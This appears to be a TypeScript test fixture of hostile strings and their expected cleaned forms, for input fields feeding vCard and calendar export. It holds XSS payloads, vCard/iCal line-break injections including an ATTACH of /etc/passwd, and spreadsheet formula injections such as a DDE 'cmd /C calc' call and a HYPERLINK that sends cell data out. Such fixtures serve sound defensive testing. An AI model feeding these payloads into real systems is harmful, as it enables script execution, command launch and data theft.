/** What somebody may paste into any field, and what of it must come back. */
export const hostileTexts: readonly (readonly [typed: string, kept: string])[] = [
  ['a\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:x', 'a\nEND:VCARD\nBEGIN:VCARD\nFN:x'],
  ['a\rEND:VEVENT\nATTACH:file:///etc/passwd', 'a\nEND:VEVENT\nATTACH:file:///etc/passwd'],
  ['page\u000cX-EVIL:1\u000bline', 'page\nX-EVIL:1\nline'],
  ['one\u2028X-EVIL:1\u0085two\u2029three', 'one\nX-EVIL:1\ntwo\nthree'],
  ['semi;colon,comma\\back\\\\two', 'semi;colon,comma\\back\\\\two'],
  ['"quoted" ^n ^^ ^\' :;,', '"quoted" ^n ^^ ^\' :;,'],
  [
    `</title></style></script><script>document.title='ran'</script><img src=x onerror="document.title='ran'">`,
    `</title></style></script><script>document.title='ran'</script><img src=x onerror="document.title='ran'">`,
  ],
  [`'"><svg onload=alert(1)>&lt;&#x41;`, `'"><svg onload=alert(1)>&lt;&#x41;`],
  ['nul\u0000 bell\u0007 escape\u001b[31m delete\u007f', 'nul bell escape[31m delete'],
  ['half \ud83d letter \udc00.', 'half \ufffd letter \ufffd.'],
  ['\u202eturned\u202c \u2067round שלום', '\u202eturned\u202c \u2067round שלום'],
  [
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(12),
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(12),
  ],
  ['=HYPERLINK("https://example.com/?x="&A1,"open")', '=HYPERLINK("https://example.com/?x="&A1,"open")'],
  ["+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"],
  ['@SUM(1+1)*cmd|x', '@SUM(1+1)*cmd|x'],
  ['-2+3;TYPE=PREF:x', '-2+3;TYPE=PREF:x'],
  ['${7*7}{{7*7}}%0d%0aBEGIN:VALARM%s', '${7*7}{{7*7}}%0d%0aBEGIN:VALARM%s'],
  ['w'.repeat(1000), 'w'.repeat(1000)],
  ['ü'.repeat(90), 'ü'.repeat(90)],
  ['日本語'.repeat(40), '日本語'.repeat(40)],
]
